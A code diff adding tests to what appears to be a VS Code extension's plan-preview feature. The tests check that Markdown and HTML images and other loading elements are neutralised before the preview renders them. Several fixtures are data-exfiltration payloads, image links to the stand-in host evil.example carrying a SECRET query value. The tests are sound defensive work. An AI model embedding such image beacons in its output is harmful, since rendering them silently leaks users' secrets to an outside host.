@@ -5,7 +5,7 @@ import * as vscode from "vscode";
 import { PermissionBroker } from "../../src/permission/broker";
 import { SHOW_PLAN } from "../../src/permission/mapping";
 import { PlanDocuments, PLAN_SCHEME } from "../../src/plan/planDocuments";
-import { reviewedPlan } from "../../src/plan/planReview";
+import { previewSafe, reviewedPlan } from "../../src/plan/planReview";
 import type { ToolCallState } from "../../src/session/toolCalls";
 import { stub } from "../stubs/control";
 
@@ -40,6 +40,17 @@ describe("recognising a plan review", () => {
   for (const c of cases) it(c.name, () => assert.equal(reviewedPlan(c.req, c.call), c.want));
 });
 
+describe("the plan as the preview renders it", () => {
+  const cases: { name: string; plan: string; want: string }[] = [
+    { name: "an image becomes a link (the preview would load it)", plan: "See ![status](https://evil.example/p?k=SECRET)", want: "See [status](https://evil.example/p?k=SECRET)" },
+    { name: "a reference image too", plan: "![x][r]\n\n[r]: https://evil.example/p?k=SECRET", want: "[x][r]\n\n[r]: https://evil.example/p?k=SECRET" },
+    { name: "an HTML image is text", plan: '<img src="https://evil.example/p?k=SECRET">', want: '&lt;img src="https://evil.example/p?k=SECRET">' },
+    { name: "other loading elements, any case, with spaces", plan: "<IFRAME src=x></iframe><video src=y>< picture>", want: "&lt;IFRAME src=x>&lt;/iframe>&lt;video src=y>&lt; picture>" },
+    { name: "the rest is kept", plan: "# Plan\n\n1. [docs](https://example.com)\n2. `a < b` and <kbd>x</kbd>!", want: "# Plan\n\n1. [docs](https://example.com)\n2. `a < b` and <kbd>x</kbd>!" },
+  ];
+  for (const c of cases) it(c.name, () => assert.equal(previewSafe(c.plan), c.want));
+});
+
 describe("the plan document", () => {
   it("serves the plan read-only under its own scheme and opens it in the Markdown preview", async () => {
     const plans = new PlanDocuments();
@@ -53,6 +64,8 @@ describe("the plan document", () => {
     assert.equal((await vscode.workspace.openTextDocument(uri)).getText(), PLAN);
     await plans.show("second");
     assert.equal((await vscode.workspace.openTextDocument(stub.executed[1]?.args[0] as vscode.Uri)).getText(), "second", "each plan its own document");
+    await plans.show("![x](https://evil.example/?k=SECRET)");
+    assert.equal((await vscode.workspace.openTextDocument(stub.executed[2]?.args[0] as vscode.Uri)).getText(), "[x](https://evil.example/?k=SECRET)", "no image loads from the preview");
   });
 
   it("opens the source when the Markdown preview is not there", async () => {
